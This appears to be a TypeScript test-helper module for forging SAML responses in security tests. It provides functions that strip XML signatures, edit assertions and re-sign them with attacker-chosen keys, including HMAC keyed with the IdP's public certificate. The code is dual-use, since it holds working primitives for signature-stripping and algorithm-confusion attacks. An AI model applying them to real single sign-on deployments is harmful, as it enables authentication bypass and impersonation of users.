import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

/**
 * Tools for forging SAML responses in attack tests: an attacker holds a genuine response (their own, or one they
 * intercepted) and edits it, re-signs parts with keys of their choice, or wraps it. Everything works on the base64
 * `SAMLResponse` form value, as posted.
 */

export const SAML_NS = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  dsig: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

export const XMLDSIG = {
  rsaSha1: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  rsaSha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  hmacSha1: 'http://www.w3.org/2000/09/xmldsig#hmac-sha1',
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
} as const;

export function decodeSamlXml(samlResponse: string): string {
  return Buffer.from(samlResponse, 'base64').toString('utf8');
}

export function encodeSamlXml(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

export function parseSamlResponse(samlResponse: string): Document {
  return new DOMParser().parseFromString(decodeSamlXml(samlResponse), 'text/xml');
}

/** The response parsed, changed in place by `edit`, and encoded again. */
export function forgeResponse(samlResponse: string, edit: (document: Document) => void): string {
  const document = parseSamlResponse(samlResponse);
  edit(document);
  return encodeSamlXml(new XMLSerializer().serializeToString(document));
}

/** The first element with this local name (any namespace) in document order; throws when there is none. */
export function firstElement(root: Document | Element, localName: string): Element {
  const found = root.getElementsByTagNameNS('*', localName)[0];
  if (!found) throw new Error(`no ${localName} element`);
  return found;
}

/** Removes every XML signature below `root`: what is left is the same message, unsigned. */
export function removeSignatures(root: Document | Element): void {
  for (const signature of Array.from(root.getElementsByTagNameNS(SAML_NS.dsig, 'Signature'))) {
    signature.parentNode!.removeChild(signature);
  }
}

export interface SigningKey {
  /** A PEM private key, or for HMAC the shared secret (an attacker uses the IdP's public certificate). */
  key: string;
  /** Put into KeyInfo when given. */
  certificate?: string;
  signatureAlgorithm: string;
  digestAlgorithm: string;
}

/**
 * Signs the response's Assertion or the Response itself with an enveloped signature placed after its Issuer, as
 * IdPs do, replacing the signature it had. xml-crypto makes the signature, with whatever algorithm it is given
 * (HMAC included), which is how an attacker would make one.
 */
export function signElement(
  samlResponse: string,
  target: 'Assertion' | 'Response',
  signing: SigningKey,
): string {
  const unsigned = forgeResponse(samlResponse, (document) => {
    const element = firstElement(document, target);
    for (const signature of Array.from(element.childNodes).filter(
      (child) => child.nodeType === child.ELEMENT_NODE && (child as Element).localName === 'Signature',
    )) {
      element.removeChild(signature);
    }
  });
  const signer = new SignedXml({
    privateKey: signing.key,
    publicCert: signing.certificate,
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  if (signing.signatureAlgorithm === XMLDSIG.hmacSha1) signer.enableHMAC();
  signer.signatureAlgorithm = signing.signatureAlgorithm;
  const path = target === 'Response' ? "/*[local-name(.)='Response']" : "//*[local-name(.)='Assertion']";
  signer.addReference({
    xpath: path,
    transforms: [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
    digestAlgorithm: signing.digestAlgorithm,
  });
  signer.computeSignature(decodeSamlXml(unsigned), {
    prefix: 'ds',
    location: { reference: `${path}/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return encodeSamlXml(signer.getSignedXml());
}
